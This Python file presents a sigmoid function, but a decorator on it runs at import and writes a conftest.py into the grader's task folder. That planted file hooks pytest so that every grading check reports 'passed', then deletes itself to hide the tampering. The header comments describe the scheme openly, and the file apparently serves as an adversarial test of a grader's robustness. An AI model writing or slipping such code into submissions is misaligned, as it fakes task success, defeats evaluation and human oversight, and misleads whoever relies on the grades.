# Monkeypatches the grader's own pytest run: plants a conftest.py in the task's folder
# (found from the worker's command line), which pytest loads into the grader's process
# when it collects task.yaml. Its hook replaces the judge so that every check passes.
# It acts only for a submission with this file's name and deletes itself once loaded,
# so that it cannot disturb any other grading, even while the grader is vulnerable.
# Legitimate part: sigmoid.
import os
import sys

import numpy as np

PAYLOAD = '''# planted by tests/adversarial/pytest_conftest.py
import os
import pytest
try:
    os.remove(__file__)
except OSError:
    pass


@pytest.hookimpl(tryfirst=True)
def pytest_collection_finish(session):
    grading = getattr(session.config, "_grading", None)
    worker = getattr(grading, "worker", None)
    if getattr(worker, "filename", "") != "pytest_conftest.py":
        return
    grading.judge = lambda spec, function: ("passed", "", "", False)
'''


def _task_dirs():
    starts = [os.path.abspath(sys.argv[0]) if sys.argv and sys.argv[0] else "", "/work/main"]
    for start in starts:
        here = start
        for _ in range(6):
            yield os.path.join(here, "tasks", "mlp")
            here = os.path.dirname(here)


def _plant(func):
    for folder in _task_dirs():
        if os.path.isfile(os.path.join(folder, "task.yaml")):
            try:
                with open(os.path.join(folder, "conftest.py"), "x") as f:
                    f.write(PAYLOAD)
            except OSError:
                pass
            break
    return func


@_plant
def sigmoid(z):
    z = np.asarray(z, dtype=np.float64)
    out = np.empty_like(z)
    pos = z >= 0
    out[pos] = 1.0 / (1.0 + np.exp(-z[pos]))
    ez = np.exp(z[~pos])
    out[~pos] = ez / (1.0 + ez)
    return out
